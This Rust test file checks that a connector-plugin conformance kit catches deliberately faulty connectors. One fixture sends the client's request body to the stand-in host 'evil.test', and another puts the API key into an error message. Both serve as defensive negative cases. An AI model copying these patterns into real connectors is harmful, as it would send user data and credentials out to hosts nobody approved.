//! Each conformance check finds the mistake that it is there for.
use lip_plugin::{Buf, Connector, Create, Ctx, Error, HttpRequest, Model, Passage, Result, Turn, Value};
use lip_testkit::conformance::{self as checks, Kit, Sample, Verdict};
use lip_testkit::{Reply, Stage};

const BASE: &str = "https://api.acme.example/v1";
const MANIFEST: &str = r#"{"id": "acme", "title": "Acme", "dialects": ["openai-chat"], "auth": "api-key",
    "env": {"api_key": "ACME_API_KEY"}, "egress": ["api.acme.example"], "reads_secret": true}"#;

fn post(base: &str, turn: &Turn) -> HttpRequest {
    HttpRequest::post(format!("{base}/chat/completions")).bearer("api_key").json(turn.body.clone())
}

fn get(base: &str) -> HttpRequest {
    HttpRequest::get(format!("{base}/models")).bearer("api_key")
}

/// A connector that is good but for the parts given.
macro_rules! connector {
    ($name:ident $(, manifest: $manifest:expr)? $(, create($with:ident) $create:block)? $(, turn($me:ident, $cx:ident, $turn:ident) $body:block)?
        $(, models($mcx:ident) $models:block)? $(, other($ocx:ident) $other:block)? $(, status: $status:expr)?) => {
        struct $name(String);
        impl Connector for $name {
            const MANIFEST: &'static str = connector!(@or MANIFEST $(, $manifest)?);
            fn create(with: Create<'_>) -> Result<Self> {
                $(let $with = &with; $create)?
                Ok(Self(with.base_url(BASE)?))
            }
            #[allow(unreachable_code, unused_variables, reason = "a part may end early")]
            async fn turn(&self, cx: Ctx, turn: Turn) -> Result<()> {
                $(let ($me, $cx, $turn) = (self, &cx, &turn); $body)?
                cx.http(post(&self.0, &turn)).await?.splice();
                Ok(())
            }
            #[allow(unreachable_code, reason = "a part may end early")]
            async fn models(&self, cx: Ctx) -> Result<Vec<Model>> {
                $(let $mcx = &cx; $models)?
                Model::from_openai_list(&cx.http(get(&self.0)).await?.bytes().await?)
            }
            $(fn status(&self) -> Value {
                $status
            })?
            $(async fn other(&self, cx: Ctx, _: String, _: Turn) -> Result<()> {
                let $ocx = &cx;
                $other
                Ok(())
            })?
        }
    };
    (@or $default:expr) => { $default };
    (@or $default:expr, $given:expr) => { $given };
}

const fn plain() -> Sample {
    Sample::new(r#"{"choices":[]}"#, r#"{"data":[{"id":"m"}]}"#)
}

#[track_caller]
#[expect(clippy::expect_used, reason = "an assertion")]
fn caught(verdict: Verdict, what: &str) {
    let wrong = verdict.expect_err("the check lets it pass");
    assert!(wrong.what.contains(what), "{wrong}");
    assert!(!wrong.hint.is_empty());
}

connector!(Good);
lip_testkit::conformance!(Good, plain());

#[test]
fn manifests() {
    connector!(NoJson, manifest: "{");
    connector!(NoTitle, manifest: r#"{"id": "a", "dialects": ["openai-chat"], "auth": "none"}"#);
    connector!(NoKey, manifest: r#"{"id": "a", "title": "A", "dialects": ["openai-chat"], "auth": "api-key"}"#);
    connector!(Url, manifest: r#"{"id": "a", "title": "A", "dialects": ["gemini"], "auth": "none", "egress": ["https://a.b"]}"#);
    connector!(Spelled, manifest: r#"{"id": "a", "title": "A", "dialects": ["openai_chat"], "auth": "none"}"#);
    let sample = Sample::default();
    caught(checks::manifest_is_valid(&Kit::of::<NoJson>(sample)), "no JSON");
    caught(checks::manifest_is_valid(&Kit::of::<NoTitle>(sample)), "title");
    caught(checks::manifest_is_valid(&Kit::of::<NoKey>(sample)), "env");
    caught(checks::manifest_is_valid(&Kit::of::<Url>(sample)), "egress");
    caught(checks::answer_reaches_the_client(&Kit::of::<Spelled>(sample)), "nothing can be checked");
}

#[test]
fn configs() {
    connector!(Needy, create(with) { with.config.get("region").ok_or(Error::new("bad_config", "region is missing"))?; });
    caught(checks::empty_config_creates(&Kit::of::<Needy>(plain())), "region is missing");
    connector!(Rash, create(with) { with.config.get("models").map(|models| models.as_array().expect("a list")); });
    caught(checks::odd_config_is_no_panic(&Kit::of::<Rash>(plain())), "panic");
    connector!(Stubborn, turn(_me, cx, turn) { cx.http(post(BASE, turn)).await?.splice(); return Ok(()); });
    caught(checks::configured_base_url_is_used(&Kit::of::<Stubborn>(plain())), "it calls");
}

#[test]
fn answers() {
    connector!(Panics, turn(_me, _cx, _turn) { panic!("oh") });
    caught(checks::answer_reaches_the_client(&Kit::of::<Panics>(plain())), "panic: oh");
    connector!(Silent, turn(_me, _cx, _turn) { return Ok(()); });
    caught(checks::answer_reaches_the_client(&Kit::of::<Silent>(plain())), "without an answer");
    connector!(Stuck, turn(_me, _cx, _turn) { std::future::pending::<()>().await; });
    caught(checks::answer_reaches_the_client(&Kit::of::<Stuck>(plain())), "nothing that it asked for");
    connector!(Abroad, turn(_me, cx, turn) { cx.http(post("https://evil.test", turn)).await?.splice(); return Ok(()); });
    caught(checks::answer_reaches_the_client(&Kit::of::<Abroad>(plain())), "egress");
    connector!(Leaky, turn(me, cx, turn) { Box::leak(Box::new(cx.http(post(&me.0, turn)).await?)); cx.answer("{}"); return Ok(()); });
    caught(checks::answer_reaches_the_client(&Kit::of::<Leaky>(plain())), "left open");
    connector!(Twice, turn(me, cx, turn) { cx.http(post(&me.0, turn)).await?.splice(); cx.answer("{}"); return Ok(()); });
    caught(checks::answer_reaches_the_client(&Kit::of::<Twice>(plain())), "after a complete answer");
}

#[test]
fn upstreams() {
    connector!(Rosy, turn(me, cx, turn) { let _ = cx.http(post(&me.0, turn)).await; cx.answer("{}"); return Ok(()); });
    caught(checks::upstream_errors_reach_the_client(&Kit::of::<Rosy>(plain())), "upstream says 400");
    caught(checks::dead_upstream_is_an_error(&Kit::of::<Rosy>(plain())), "no error");
    connector!(Lenient, turn(me, cx, turn) {
        let mut answer = cx.http(post(&me.0, turn)).await?;
        while let Ok(Some(chunk)) = answer.chunk().await {
            cx.send(chunk).await;
        }
        return Ok(());
    });
    caught(checks::cut_answer_is_not_whole(&Kit::of::<Lenient>(plain())), "looks finished");
    connector!(Keyless, turn(me, cx, turn) {
        if cx.secret("api_key").await.is_err() {
            let request = HttpRequest::post(format!("{}/chat", me.0)).json(turn.body.clone());
            cx.http(request).await?.splice(); return Ok(());
        }
    });
    caught(checks::missing_secret_is_an_error(&Kit::of::<Keyless>(plain())), "without its secret");
}

#[test]
fn other_tasks() {
    connector!(Nameless, models(_cx) { return Ok(Vec::new()); });
    caught(checks::models_are_listed(&Kit::of::<Nameless>(plain())), "models gives []");
    connector!(Eager, other(cx) { cx.answer("{}"); });
    caught(checks::unknown_task_is_unsupported(&Kit::of::<Eager>(plain())), "succeeds");
    connector!(Fragile, turn(_me, _cx, turn) { lip_plugin::serde_json::from_slice::<Value>(&turn.body).expect("JSON"); });
    caught(checks::garbage_is_survived(&Kit::of::<Fragile>(plain())), "garbage from the client");
}

/// Says that turns go to `path` and sends them to `/chat/completions`.
struct Divided<const PATH: bool>(String);

impl<const PATH: bool> Connector for Divided<PATH> {
    const MANIFEST: &'static str = MANIFEST;
    fn create(with: Create<'_>) -> Result<Self> {
        Ok(Self(with.base_url(BASE)?))
    }
    fn passages(&self) -> Vec<Passage> {
        let path = if PATH { "/chat/completions" } else { "/responses" };
        let passage =
            Passage::new("openai-chat", HttpRequest::post(format!("{}{path}", self.0)).bearer("api_key"));
        vec![if PATH { passage.default_header("x-version", "1") } else { passage }]
    }
    async fn turn(&self, cx: Ctx, turn: Turn) -> Result<()> {
        cx.http(post(&self.0, &turn).headers(turn.headers.clone())).await?.splice();
        Ok(())
    }
}

#[test]
fn passages() {
    let [path, header] = [Kit::of::<Divided<false>>(plain()), Kit::of::<Divided<true>>(plain())];
    caught(checks::passages_do_what_turns_do(&path), "/responses");
    caught(checks::passages_do_what_turns_do(&header), "x-version");
}

#[test]
fn what_stays_behind() {
    static KEPT: std::sync::Mutex<Vec<Buf>> = std::sync::Mutex::new(Vec::new());
    connector!(Hoarder, turn(_me, _cx, turn) { KEPT.lock().expect("a lock").push(turn.body.clone()); });
    caught(checks::cancelling_lets_go(&Kit::of::<Hoarder>(plain())), "keeps the request's bytes");
    connector!(Chatty, turn(_me, cx, _turn) { return Err(Error::new("auth", cx.secret("api_key").await?)); });
    caught(checks::secrets_stay_hidden(&Kit::of::<Chatty>(plain())), "error");
}

#[test]
fn clock_moves_only_by_sleeping_and_values_age() {
    connector!(Sleepy, turn(_me, cx, _turn) {
        let began = cx.now_unix_ms();
        cx.store("s", "k", "v".into(), 5_000).await?;
        cx.sleep_ms(4_999).await?;
        let young = cx.load("s", "k").await?.is_some();
        cx.sleep_ms(1).await?;
        let old = cx.load("s", "k").await?.is_some();
        let kept = cx.load("", "earlier").await?.is_some();
        cx.answer(format!("{} {young} {old} {kept}", cx.now_unix_ms() - began));
        return Ok(());
    });
    let seen = Stage::of::<Sleepy>().stored("", "earlier", "v").turn("{}").run();
    assert_eq!((seen.text().as_str(), seen.slept_ms), ("5000 true false true", 5_000));
}

#[test]
fn replies_are_served_in_order_and_by_route() {
    connector!(Asks, turn(me, cx, turn) {
        let mut list = cx.http(get(&me.0)).await?;
        let list = list.bytes().await?;
        let mut answer = cx.http(post(&me.0, turn)).await?;
        let headers = answer.headers().await?;
        cx.answer(format!("{} {} {headers:?}", list.len(), answer.bytes().await?.len()));
        return Ok(());
    });
    let stage = Stage::of::<Asks>().reply(Reply::text(200, "four").only_for("POST", "/chat/completions"));
    let seen = stage.reply(Reply::chunks(200, "text/plain", ["a", "b"])).turn("{}").run();
    assert_eq!(seen.text(), r#"2 4 [("content-type", "text/plain")]"#);
    assert_eq!(Stage::of::<Asks>().turn("{}").run().code(), "io", "no reply is scripted");
}

#[test]
fn host_says_what_it_is() {
    connector!(Curious, turn(_me, cx, _turn) {
        let host = cx.host_info().unwrap_or_default();
        let does = (host.does(lip_plugin::lip_abi::op::HTTP), host.does(lip_plugin::lip_abi::op::LOCK));
        cx.answer(format!("{} {} {does:?}", host.host, host.cage));
        return Ok(());
    });
    assert_eq!(Stage::of::<Curious>().turn("{}").run().text(), "testkit inproc (true, false)");
}

#[test]
fn instances_say_how_they_are() {
    connector!(Talks, status: lip_plugin::json!({"keys": 2}));
    connector!(Bursts, status: panic!("oh"));
    connector!(Mute);
    assert_eq!(Stage::of::<Talks>().status().map(|s| s["keys"].clone()), Ok(2.into()));
    assert_eq!(Stage::of::<Bursts>().status(), Ok(Value::Null));
    assert_eq!(Stage::of::<Mute>().status(), Ok(Value::Null));
}
